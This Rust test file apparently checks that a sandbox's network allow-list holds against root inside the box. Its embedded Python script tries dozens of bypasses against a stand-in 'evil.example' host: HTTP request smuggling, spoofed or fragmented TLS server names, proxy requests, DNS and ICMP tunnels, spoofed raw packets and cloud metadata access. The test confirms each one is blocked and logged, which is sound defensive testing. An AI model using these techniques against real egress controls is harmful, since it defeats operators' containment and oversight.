//! Ways around a policy, each tried by root in a box, in a network namespace that stands for the outside.
//!
//! ```text
//!   namespace: lo has 127.0.0.1, ::1, 45.0.0.1 (good.example, an allowed server), 45.0.0.2 (evil.example), 10.9.9.9 (private),
//!              169.254.169.254 (metadata), 2600:45::2; a server at each of them tells what it was asked for; one DNS server
//!   box:       --allow-net good.example:80,443,9000 --dns 127.0.0.1:5300
//! ```

use std::io::{Read, Write};
use std::net::{IpAddr, TcpListener, TcpStream, UdpSocket};
use std::process::Command;
use std::sync::{Arc, Mutex};
use std::thread;
use std::time::Duration;

use boxlite_tests::story::{Story, eventually};
use nix::sched::{CloneFlags, unshare};

const PATIENCE: Duration = Duration::from_secs(60);
const ADDRESSES: [&str; 4] = ["45.0.0.1", "45.0.0.2", "10.9.9.9", "169.254.169.254"];
const OUTSIDE6: &str = "2600:45::2";
const PORTS: [u16; 6] = [80, 443, 53, 853, 9000, 8443];

/// Gives the loopback interface addresses, in Python since it has ioctl.
const SET_UP: &str = r#"
import fcntl, socket, struct, sys
s = socket.socket()
def flags(name): fcntl.ioctl(s, 0x8914, struct.pack("16sh14x", name, 0x49))
flags(b"lo")
for number, address in enumerate(sys.argv[2:]):
    name = b"lo:%d" % (number + 1)
    for call, value in ((0x8916, address), (0x891c, "255.255.255.255")):
        fcntl.ioctl(s, call, struct.pack("16sHH4s8x", name, socket.AF_INET, 0, socket.inet_aton(value)))
six = socket.socket(socket.AF_INET6)
fcntl.ioctl(six, 0x8916, socket.inet_pton(socket.AF_INET6, sys.argv[1]) + struct.pack("Ii", 128, 1))
"#;

/// What servers were asked for, with the address that they were asked at.
type Seen = Arc<Mutex<Vec<String>>>;

/// Moves this thread, and what it starts from now on, to a network of its own.
fn outside() -> Seen {
    unshare(CloneFlags::CLONE_NEWNET).expect("a network namespace, which takes root");
    let set_up = Command::new("python3").args(["-c", SET_UP, OUTSIDE6]).args(ADDRESSES).status();
    assert!(set_up.expect("python3").success());
    let seen = Seen::default();
    let everywhere = ADDRESSES.into_iter().chain([OUTSIDE6, "127.0.0.1"]);
    for (address, port) in everywhere.flat_map(|address| PORTS.map(|port| (address, port))) {
        let ip: IpAddr = address.parse().unwrap();
        let listener = TcpListener::bind((ip, port)).unwrap();
        let told = Arc::clone(&seen);
        thread::spawn(move || {
            for stream in listener.incoming().map_while(Result::ok) {
                let told = Arc::clone(&told);
                thread::spawn(move || serve(stream, &format!("{address}:{port}"), &told));
            }
        });
        let socket = UdpSocket::bind((ip, port)).unwrap();
        let told = Arc::clone(&seen);
        thread::spawn(move || {
            let mut bytes = [0; 2048];
            while let Ok((length, from)) = socket.recv_from(&mut bytes) {
                told.lock().unwrap().push(format!("{address}:{port}/udp {length}"));
                drop(socket.send_to(b"reached", from));
            }
        });
    }
    thread::spawn(names);
    seen
}

/// Takes what comes until a line or a TLS record is there, tells of it, and answers.
fn serve(mut stream: TcpStream, at: &str, seen: &Seen) {
    let mut bytes = [0; 4096];
    let length = stream.read(&mut bytes).unwrap_or(0);
    if length > 0 {
        let said: String = bytes[..length.min(60)].escape_ascii().to_string();
        seen.lock().unwrap().push(format!("{at} {said}"));
        drop(stream.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 7\r\n\r\nreached"));
        // Until the client has gone: it may say more on the same connection.
        while let Ok(1..) = stream.read(&mut bytes) {
            let said: String = bytes[..60].escape_ascii().to_string();
            seen.lock().unwrap().push(format!("{at} {said}"));
        }
    }
}

/// A name server. Names that begin with `rebind` or `private` have private addresses.
fn names() {
    let socket = UdpSocket::bind("127.0.0.1:5300").unwrap();
    let mut bytes = [0; 2048];
    while let Ok((length, from)) = socket.recv_from(&mut bytes) {
        let question = &bytes[..length];
        let (mut name, mut at) = (String::new(), 12);
        while question[at] != 0 {
            let label = &question[at + 1..at + 1 + usize::from(question[at])];
            name.push_str(&String::from_utf8_lossy(label).to_ascii_lowercase());
            name.push('.');
            at += 1 + label.len();
        }
        let is_a = question[at + 1..at + 3] == [0, 1];
        let address: Option<[u8; 4]> = match name.as_str() {
            "good.example." | "also.good.example." => Some([45, 0, 0, 1]),
            "evil.example." => Some([45, 0, 0, 2]),
            "private.good.example." => Some([10, 9, 9, 9]),
            "local.good.example." => Some([127, 0, 0, 1]),
            _ => None,
        };
        let address = address.filter(|_| is_a);
        let mut answer = question[..at + 5].to_vec();
        answer[2] = 0x81;
        answer[3] = if address.is_none() && is_a { 0x83 } else { 0x80 };
        answer[6..12].copy_from_slice(&[0, u8::from(address.is_some()), 0, 0, 0, 0]);
        if let Some(address) = address {
            answer.extend([0xc0, 12, 0, 1, 0, 1, 0, 0, 0, 60, 0, 4]);
            answer.extend(address);
        }
        drop(socket.send_to(&answer, from));
    }
}

/// What the box does: each way is a function that returns what it got, or fails.
const WAYS: &str = r#"
import json, os, socket, ssl, struct, sys, time
GOOD, EVIL = "45.0.0.1", "45.0.0.2"
def tcp(host, port, data, more=()):
    s = socket.create_connection((host, port), 5); s.settimeout(1.5)
    s.sendall(data)
    for part in more: time.sleep(0.02); s.sendall(part)
    return s.recv(100)
def udp(host, port, data=b"x", family=socket.AF_INET):
    s = socket.socket(family, socket.SOCK_DGRAM); s.settimeout(1.5); s.connect((host, port)); s.send(data)
    return s.recv(100)
def get(host, path="/", extra=b""):
    return b"GET %s HTTP/1.1\r\nHost: %s\r\n%s\r\n" % (path.encode(), host.encode(), extra)
def hello(name=None, extra=b"", split=None):
    sni = b""
    if name is not None:
        n = name.encode(); sni = struct.pack("!HHHBH", 0, len(n) + 5, len(n) + 3, 0, len(n)) + n
    ext = sni + extra
    body = b"\x03\x03" + b"r" * 32 + b"\0" + b"\0\x02\x13\x01" + b"\x01\0" + struct.pack("!H", len(ext)) + ext
    msg = b"\x01" + struct.pack("!I", len(body))[1:] + body
    size = split or len(msg)
    return b"".join(b"\x16\x03\x01" + struct.pack("!H", len(msg[i:i+size])) + msg[i:i+size] for i in range(0, len(msg), size))
def dns(server, name, port=53, tcp_=False):
    q = struct.pack("!HHHHHH", 7, 0x100, 1, 0, 0, 0) + b"".join(bytes([len(l)]) + l.encode() for l in name.split(".")) + b"\0\0\1\0\1"
    if tcp_: return tcp(server, port, struct.pack("!H", len(q)) + q)
    return udp(server, port, q)
def look(name): return socket.gethostbyname(name)
def raw(packet, protocol=socket.IPPROTO_RAW):
    s = socket.socket(socket.AF_PACKET, socket.SOCK_RAW); s.bind(("eth0", 0x800)); s.send(packet)
def frame(src, dst, proto, payload, smac="02b00c000002"):
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(payload), 0, 0, 64, proto, 0, socket.inet_aton(src), socket.inet_aton(dst))
    c = 0
    for i in range(0, 20, 2): c += ip[i] << 8 | ip[i + 1]
    c = (c & 0xffff) + (c >> 16); c = ~((c & 0xffff) + (c >> 16)) & 0xffff
    ip = ip[:10] + struct.pack("!H", c) + ip[12:]
    return bytes.fromhex("02b00c000001") + bytes.fromhex(smac) + b"\x08\0" + ip + payload
def spoof(src, dst, port):
    raw(frame(src, dst, 17, struct.pack("!HHHH", 4000, port, 8 + 7, 0) + b"spoofed")); time.sleep(0.1); raise OSError("sent")
def other_mac():
    raw(frame("192.168.127.2", EVIL, 17, struct.pack("!HHHH", 4000, 80, 15, 0) + b"spoofed", "02b00c000099")); time.sleep(0.1); raise OSError("sent")
def fragment():
    f = bytearray(frame("192.168.127.2", EVIL, 17, struct.pack("!HHHH", 4000, 80, 15, 0) + b"partial")); f[20] = 0x20
    f[24:26] = b"\0\0"; c = 0
    for i in range(14, 34, 2): c += f[i] << 8 | f[i + 1]
    c = (c & 0xffff) + (c >> 16); f[24:26] = struct.pack("!H", ~((c & 0xffff) + (c >> 16)) & 0xffff)
    raw(bytes(f)); time.sleep(0.1); raise OSError("sent")
def ping(host):
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(1.5)
    s.sendto(b"\x08\0\0\0\0\0\0\1tunnel", (host, 0)); return s.recv(100)
def late_host():
    s = socket.create_connection((GOOD, 80), 5); s.settimeout(2); s.sendall(get("good.example")); first = s.recv(100)
    s.sendall(get("evil.example")); second = s.recv(100)
    if not second: raise OSError("closed")
    return second
def late_hello():
    s = socket.create_connection((GOOD, 443), 5); s.settimeout(2); s.sendall(hello("good.example")); s.recv(100)
    s.sendall(b"\x14\x03\x03\0\x01\x01" + hello("evil.example")); d = s.recv(100)
    if not d: raise OSError("closed")
    return d
def websocket():
    s = socket.create_connection((GOOD, 80), 5); s.settimeout(2)
    s.sendall(get("good.example", extra=b"Upgrade: websocket\r\n") + get("evil.example")); s.recv(100); d = s.recv(100)
    if not d: raise OSError("closed")
    return d
ech = struct.pack("!HH", 0xfe0d, 40) + b"\0" * 40
ways = {
  "a raw address": lambda: tcp(EVIL, 80, get("evil.example")),
  "a raw address with an allowed host": lambda: tcp(EVIL, 80, get("good.example")),
  "a raw address with an allowed server name": lambda: tcp(EVIL, 443, hello("good.example")),
  "a raw IPv6 address": lambda: tcp("2600:45::2", 80, get("good.example")),
  "a mapped address": lambda: tcp("::ffff:45.0.0.2", 80, get("good.example")),
  "NAT64": lambda: tcp("64:ff9b::2d00:2", 80, get("good.example")),
  "6to4": lambda: tcp("2002:2d00:2::1", 80, get("good.example")),
  "a private address": lambda: tcp("10.9.9.9", 80, get("good.example")),
  "metadata": lambda: tcp("169.254.169.254", 80, get("good.example")),
  "metadata, mapped": lambda: tcp("::ffff:169.254.169.254", 80, get("good.example")),
  "the host by its number": lambda: tcp("192.168.127.254", 80, get("good.example")),
  "the host by its name": lambda: tcp("host.boxlite.internal", 80, get("good.example")),
  "the host in IPv6": lambda: tcp("fd00:b0:c51:17e0::fe", 80, get("good.example")),
  "the gateway's ports": lambda: tcp("192.168.127.1", 80, get("good.example")),
  "another machine of the link": lambda: tcp("192.168.127.77", 80, get("good.example")),
  "another port of the allowed host": lambda: tcp(GOOD, 8443, b"x\n"),
  "another name's host": lambda: tcp(GOOD, 80, get("evil.example")),
  "no host": lambda: tcp(GOOD, 80, b"GET / HTTP/1.0\r\n\r\n"),
  "no version": lambda: tcp(GOOD, 80, b"GET /\r\n"),
  "two hosts": lambda: tcp(GOOD, 80, b"GET / HTTP/1.1\r\nHost: good.example\r\nHost: evil.example\r\n\r\n"),
  "an absolute target": lambda: tcp(GOOD, 80, get("good.example", "http://evil.example/")),
  "a proxy": lambda: tcp(GOOD, 80, b"CONNECT evil.example:443 HTTP/1.1\r\nHost: good.example\r\n\r\n"),
  "SOCKS": lambda: tcp(GOOD, 9000, b"\x05\x01\0"),
  "a pipelined second request": lambda: tcp(GOOD, 80, get("good.example") + get("evil.example")),
  "a second request later": late_host,
  "white space before the request": lambda: tcp(GOOD, 80, b"\r\n" + get("evil.example")),
  "bare line feeds": lambda: tcp(GOOD, 80, b"GET / HTTP/1.1\nHost: evil.example\n\n"),
  "smuggled by two lengths": lambda: tcp(GOOD, 80, b"POST / HTTP/1.1\r\nHost: good.example\r\nContent-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n" + get("evil.example")),
  "HTTP/2 without TLS": lambda: tcp(GOOD, 80, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"),
  "HTTP/2 by upgrade": lambda: tcp(GOOD, 80, get("good.example", extra=b"Upgrade: h2c\r\n")),
  "a websocket that nobody agreed to": websocket,
  "another server name": lambda: tcp(GOOD, 443, hello("evil.example")),
  "no server name": lambda: tcp(GOOD, 443, hello()),
  "an encrypted hello": lambda: tcp(GOOD, 443, hello("good.example", ech)),
  "a hello in pieces": lambda: tcp(GOOD, 443, hello("evil.example", split=3)),
  "a hello byte by byte": lambda: tcp(GOOD, 443, b"", [bytes([b]) for b in hello("evil.example")[:60]] + [hello("evil.example")[60:]]),
  "a second hello": late_hello,
  "an old hello": lambda: tcp(GOOD, 443, b"\x80\x2e\x01\x03\x01\0\x15\0\0\0\x10" + b"\0" * 40),
  "QUIC to the allowed host": lambda: udp(GOOD, 443),
  "UDP to another": lambda: udp(EVIL, 9000),
  "UDP in IPv6": lambda: udp("2600:45::2", 9000, family=socket.AF_INET6),
  "DNS by another server": lambda: dns(EVIL, "evil.example"),
  "DNS by the allowed host": lambda: dns(GOOD, "evil.example"),
  "DNS over TCP by another server": lambda: dns(EVIL, "evil.example", tcp_=True),
  "DNS over TLS": lambda: tcp(GOOD, 853, hello("good.example")),
  "a tunnel in names": lambda: look("secret.tunnel.evil.example"),
  "a name that is not allowed": lambda: look("evil.example"),
  "a name below the allowed one": lambda: look("also.good.example"),
  "an ICMP tunnel": lambda: ping(EVIL),
  "an ICMP tunnel to the allowed host": lambda: ping(GOOD),
  "a spoofed source": lambda: spoof("192.168.127.254", EVIL, 80),
  "another hardware address": other_mac,
  "a part of a packet": fragment,
  "multicast": lambda: udp("224.0.0.251", 5353),
  "broadcast": lambda: udp("192.168.127.255", 9000),
}
got = {}
for what, way in ways.items():
    try: got[what] = repr(way())
    except Exception as error: got[what] = "failed: %s" % error
socket.gethostbyname("good.example")
allowed = {
  "the allowed host": lambda: tcp(look("good.example"), 80, get("good.example")),
  "the allowed server name": lambda: tcp(GOOD, 443, hello("GOOD.example")),
  "the allowed name in pieces": lambda: tcp(GOOD, 443, hello("good.example", split=5)),
  "something else to the allowed host": lambda: tcp(GOOD, 9000, b"\x01\x02\x03"),
}
ok = {}
for what, way in allowed.items():
    try: ok[what] = repr(way())
    except Exception as error: ok[what] = "failed: %s" % error
print(json.dumps([got, ok]))
"#;

#[test]
fn there_is_no_way_around_a_policy_from_a_root_shell() {
    let seen = outside();
    let story = Story::empty();
    story.load("python.oci.tar");
    let rule = "good.example:80,443,53,853,9000";
    let run =
        ["run", "-d", "--name", "b", "--cap-add", "ALL", "--allow-net", rule, "--dns", "127.0.0.1:5300"];
    story.boxlite(run).args(["python:3", "sleep", "1000"]).run().success();
    // What is allowed has to be known by its name, so that it is the rest that is refused.
    let first = "import socket; print(socket.gethostbyname('good.example'))";
    assert_eq!(story.boxlite(["exec", "b", "python3", "-c", first]).run().success().out(), "45.0.0.1\n");
    let told = story.boxlite(["exec", "-i", "b", "python3", "-"]).input(WAYS).run().success().out();
    let [got, ok]: [serde_json::Map<String, serde_json::Value>; 2] = serde_json::from_str(&told).unwrap();
    assert!(got.len() >= 50, "{}", got.len());
    // On the two connections that begin well, the first request is answered, and that answer alone.
    let failed =
        |answer: &serde_json::Value| answer.as_str().unwrap().starts_with("failed") || answer == "b''";
    let around: Vec<_> = got.iter().filter(|(_, answer)| !failed(answer)).collect();
    assert!(around.is_empty(), "{around:#?}");
    for (what, answer) in &ok {
        assert!(answer.as_str().unwrap().contains("reached"), "{what}: {answer}");
    }
    // What the servers saw: the allowed one alone, and nothing for another host.
    let seen = seen.lock().unwrap().clone();
    let strangers: Vec<_> = seen.iter().filter(|line| !line.starts_with("45.0.0.1:")).collect();
    assert!(strangers.is_empty(), "{strangers:#?}");
    let smuggled: Vec<_> = seen.iter().filter(|line| line.contains("evil")).collect();
    assert!(smuggled.is_empty(), "{smuggled:#?}");
    // And it was told.
    let events =
        story.boxlite(["events", "--since", "10m", "--until", "0s", "--format", "json"]).run().success();
    let events = events.out();
    for part in [
        "\"host\":\"evil.example\"",
        "DNS to another server",
        "its destination is encrypted",
        "an address that is not the box's",
        "it asks for a proxy",
    ] {
        assert!(events.contains(part), "{part}: {events}");
    }
}

#[test]
fn a_policy_changes_under_a_running_box_and_ends_what_it_does_not_allow() {
    let _seen = outside();
    let story = Story::empty();
    story.load("python.oci.tar");
    let run = ["run", "-d", "--name", "b", "--network", "public", "--dns", "127.0.0.1:5300", "python:3"];
    story.boxlite(run).args(["sleep", "1000"]).run().success();
    // One connection stays open, and says when it has been ended.
    let stay = "import socket; s = socket.create_connection(('45.0.0.2', 9000), 10); s.sendall(b'\\x01'); \
        s.recv(100); open('/tmp/open', 'w')\n\
        try: print(repr(s.recv(100)))\nexcept ConnectionResetError: print('reset')";
    thread::scope(|scope| {
        let stays = scope.spawn(|| story.boxlite(["exec", "b", "python3", "-u", "-c", stay]).run());
        eventually("the connection is there", PATIENCE, || {
            story.boxlite(["exec", "b", "test", "-e", "/tmp/open"]).run().status.success()
        });
        story.boxlite(["network", "update", "b", "--allow-net", "45.0.0.1:9000"]).run().success();
        assert_eq!(stays.join().unwrap().success().out(), "reset\n");
        let told = story.boxlite(["network", "inspect", "b", "--format", "json"]).run().success();
        let told: serde_json::Value = serde_json::from_slice(&told.stdout).unwrap();
        assert_eq!(told["flows"].as_array().unwrap().len(), 0, "{told}");
    });
    let reach = |address: &str| {
        let out = format!(
            "import socket\ntry: s = socket.create_connection(('{address}', 9000), 10); s.sendall(b'x\\n'); print(len(s.recv(9)))\n\
             except ConnectionRefusedError: print('refused')"
        );
        story.boxlite(["exec", "b", "python3", "-c", &out]).run().success().out()
    };
    assert_eq!((reach("45.0.0.1").as_str(), reach("45.0.0.2").as_str()), ("9\n", "refused\n"));
    // The next start has it, too.
    story.boxlite(["restart", "-t", "1", "b"]).run().success();
    assert_eq!((reach("45.0.0.1").as_str(), reach("45.0.0.2").as_str()), ("9\n", "refused\n"));
    let shown = story.boxlite(["inspect", "b"]).run().success().out();
    assert!(shown.contains("45.0.0.1:9000"), "{shown}");
}
